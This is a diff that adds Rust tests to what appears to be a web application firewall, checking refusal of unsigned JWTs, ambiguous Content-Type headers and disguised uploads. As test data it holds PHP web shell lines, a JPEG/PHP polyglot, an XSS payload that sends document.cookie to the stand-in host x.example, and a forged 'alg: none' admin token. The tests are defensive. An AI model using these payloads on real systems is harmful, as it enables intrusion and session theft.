@@ -677,6 +677,145 @@ fn waf_multipart_filename_traversal_denied() {
     );
 }
 
+/// A bearer token or session cookie whose JWT header declares no signature
+/// is refused; a signed one passes.
+#[test]
+fn waf_refuses_unsigned_tokens() {
+    let p = balanced();
+    let send = |name: &'static str, value: &str| {
+        let h = headers(&[(name, value)]);
+        inspect_head(
+            &p,
+            &RequestHead {
+                method: &Method::GET,
+                path: "/account",
+                query: None,
+                headers: &h,
+                route: "r",
+            },
+        )
+    };
+    let unsigned = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJ1c2VyIjoiYWRtaW4ifQ.";
+    let signed = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ1c2VyIjoiYWRtaW4ifQ.c2ln";
+    let v = send("authorization", &format!("Bearer {unsigned}"));
+    assert_eq!(class_of(&v), Some(Class::Generic), "{v:?}");
+    let v = send("cookie", &format!("theme=dark; token={unsigned}"));
+    assert_eq!(class_of(&v), Some(Class::Generic), "{v:?}");
+    assert_eq!(
+        send("authorization", &format!("Bearer {signed}")),
+        Verdict::Allow
+    );
+    assert_eq!(send("cookie", &format!("token={signed}")), Verdict::Allow);
+}
+
+/// A Content-Type that names a second media type in a parameter is built to
+/// be read two ways: refused as an attack (400) with or without a body.
+#[test]
+fn waf_refuses_a_content_type_that_names_another_type() {
+    let p = balanced();
+    let head = headers(&[(
+        "content-type",
+        "application/x-www-form-urlencoded; boundary=\"text/xml\"",
+    )]);
+    let v = inspect_head(
+        &p,
+        &RequestHead {
+            method: &Method::POST,
+            path: "/submit",
+            query: None,
+            headers: &head,
+            route: "r",
+        },
+    );
+    assert_eq!(class_of(&v), Some(Class::Protocol), "{v:?}");
+    assert_eq!(v.detection().unwrap().status, 400);
+    // SOAP with attachments names its root part's type: not a confusion
+    let mtom = headers(&[(
+        "content-type",
+        "multipart/related; type=\"application/xop+xml\"; boundary=b1",
+    )]);
+    let v = inspect_head(
+        &p,
+        &RequestHead {
+            method: &Method::POST,
+            path: "/submit",
+            query: None,
+            headers: &mtom,
+            route: "r",
+        },
+    );
+    assert_eq!(v, Verdict::Allow);
+}
+
+/// An upload declared as an image, sound or video is read by its bytes: a
+/// script sent as `image/jpeg` is text and scanned as such, a real image with
+/// a PHP open tag in a comment segment is the polyglot an `include` runs, and
+/// real images, archives and SVG drawings pass.
+#[test]
+fn waf_judges_uploads_by_their_bytes_not_their_declared_type() {
+    let p = balanced();
+    let ct = "multipart/form-data; boundary=B";
+    let part = |file: &str, ty: &str, content: &[u8]| {
+        let mut b = format!(
+            "--B\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"{file}\"\r\nContent-Type: {ty}\r\n\r\n"
+        )
+        .into_bytes();
+        b.extend_from_slice(content);
+        b.extend_from_slice(b"\r\n--B--\r\n");
+        b
+    };
+    let send = |body: Vec<u8>| common::post_bytes(&p, ct, &body, &[]);
+    // a script under an image's type (the file name alone is not what decides:
+    // `avatar.gif` is an ordinary name)
+    let v = send(part(
+        "avatar.gif",
+        "image/gif",
+        b"<?PHP\nsystem($_REQUEST['c']);",
+    ));
+    assert_eq!(class_of(&v), Some(Class::Php), "{v:?}");
+    let v = send(part(
+        "clip.mp4",
+        "video/mp4",
+        b"<script>fetch('//x.example/'+document.cookie)</script>",
+    ));
+    assert_eq!(class_of(&v), Some(Class::Xss), "{v:?}");
+    // a JPEG start, a comment segment holding PHP, then image data
+    let mut jpeg = vec![
+        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0x00,
+    ];
+    jpeg.extend_from_slice(&[0xFF, 0xFE, 0x00, 0x20]);
+    jpeg.extend_from_slice(b"<?php passthru($_GET['x']); ?>");
+    jpeg.extend_from_slice(&[0xFF, 0xDB, 0x00, 0x43, 0x00, 0x08, 0x06, 0x06]);
+    let v = send(part("me.jpg", "image/jpeg", &jpeg));
+    assert_eq!(class_of(&v), Some(Class::Php), "{v:?}");
+    // the same image without the script, and binary bytes that merely hold `<?`
+    let mut clean = vec![
+        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0x00,
+    ];
+    clean.extend_from_slice(b"<?xpacket begin='' id='W5M0'?> union select <script>");
+    clean.extend_from_slice(&[0xFF, 0xD9]);
+    assert_eq!(send(part("me.jpg", "image/jpeg", &clean)), Verdict::Allow);
+    // text an image type wraps but that is ordinary text
+    assert_eq!(
+        send(part(
+            "notes.png",
+            "image/png",
+            b"Shopping list: milk, eggs, bread"
+        )),
+        Verdict::Allow
+    );
+    // a PHP tag in an archive or PDF is not looked for (source trees are zipped)
+    let mut zip = b"PK\x03\x04\x14\x00\x00\x00".to_vec();
+    zip.extend_from_slice(b"index.php<?php echo 1; ?>");
+    assert_eq!(
+        send(part("site.zip", "application/zip", &zip)),
+        Verdict::Allow
+    );
+    // an SVG drawing is its markup
+    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5z"/></svg>"#;
+    assert_eq!(send(part("logo.svg", "image/svg+xml", svg)), Verdict::Allow);
+}
+
 /// A multipart part whose Content-Transfer-Encoding a parser honours is
 /// read decoded: the application of such a parser sees the payload.
 #[test]
